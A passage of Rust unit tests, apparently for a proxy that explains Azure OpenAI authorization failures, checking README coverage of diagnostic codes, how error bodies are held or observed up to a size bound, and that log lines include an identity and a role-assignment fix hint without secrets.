            header::UPSTREAM_FORBIDDEN,
            header::UPSTREAM_BAD_REQUEST,
        ];
        let codes: Vec<&str> = headers
            .into_iter()
            .chain(diagnosis::ALL.iter().copied())
            .chain(crate::diagnose::code::ALL.iter().copied())
            .collect();
        for code in &codes {
            assert!(readme.contains(&format!("`{code}`")), "README lacks {code}");
        }
    }

    #[test]
    fn only_small_uncompressed_json_bodies_are_held_for_rewriting() {
        let json = Some(&b"application/json; charset=utf-8"[..]);
        assert_eq!(
            BodyMode::choose(json, None, Some(b"120")),
            BodyMode::Rewrite
        );
        assert_eq!(
            BodyMode::choose(json, Some(b"identity"), None),
            BodyMode::Rewrite
        );
        assert_eq!(
            BodyMode::choose(json, Some(b"gzip"), Some(b"120")),
            BodyMode::Observe
        );
        assert_eq!(
            BodyMode::choose(Some(b"text/plain"), None, Some(b"12")),
            BodyMode::Observe
        );
        assert_eq!(BodyMode::choose(None, None, None), BodyMode::Observe);
        assert_eq!(
            BodyMode::choose(json, None, Some(b"2097152")),
            BodyMode::Observe
        );
        assert_eq!(
            BodyMode::choose(json, None, Some(b"12\xff")),
            BodyMode::Observe
        );
        assert_eq!(
            BodyMode::choose(Some(b"application/json\xff"), None, Some(b"12")),
            BodyMode::Observe
        );
    }

    #[test]
    fn a_body_to_rewrite_is_held_until_complete_and_released_past_the_bound() {
        let mut i = Inspection::new(401, BodyMode::Rewrite);
        assert_eq!(i.wants(100, false), 0);
        assert_eq!(i.body(b"", 100, false), BodyStep::Hold);
        assert_eq!(i.wants(200, true), 200);
        assert_eq!(
            i.body(b"{}", 200, true),
            BodyStep::Explain { rewrite: true }
        );
        assert_eq!(i.collected(), b"{}");
        // A body of unknown length that grows past the bound: let go, untouched.
        let mut i = Inspection::new(403, BodyMode::Rewrite);
        assert_eq!(i.body(b"", 4_000, false), BodyStep::Hold);
        assert_eq!(i.body(b"", MAX_ERROR_BODY + 1, false), BodyStep::Pass);
        assert_eq!(i.wants(MAX_ERROR_BODY + 9, true), 0);
        assert_eq!(i.body(b"", MAX_ERROR_BODY + 9, true), BodyStep::Pass);
    }

    #[test]
    fn an_observed_body_is_never_held_and_copied_only_up_to_the_bound() {
        let mut i = Inspection::new(401, BodyMode::Observe);
        assert_eq!(i.wants(10, false), 10);
        assert_eq!(i.body(b"{\"error\":", 10, false), BodyStep::Pass);
        assert_eq!(
            i.body(b"{}}", 3, true),
            BodyStep::Explain { rewrite: false }
        );
        assert_eq!(i.collected(), b"{\"error\":{}}");
        let mut big = Inspection::new(403, BodyMode::Observe);
        assert_eq!(big.wants(2 << 20, false), MAX_ERROR_BODY + 1);
        let chunk = vec![b' '; MAX_ERROR_BODY + 1];
        assert_eq!(big.body(&chunk, 2 << 20, false), BodyStep::Pass);
        assert_eq!(big.wants(2 << 20, true), 0);
        assert_eq!(big.body(b"", 2 << 20, true), BodyStep::Pass);
    }

    #[test]
    fn log_lines_carry_identity_and_fix_but_nothing_secret() {
        let a = role_missing(OID, CHAT_ACTION, "myres.openai.azure.com");
        let line = a.log_line(401, "myres.openai.azure.com");
        assert!(line.contains("diagnosis=RoleMissing"));
        assert!(line.contains(&format!("principal_id={OID}")));
        assert!(line.contains("az role assignment create"));
    }
}
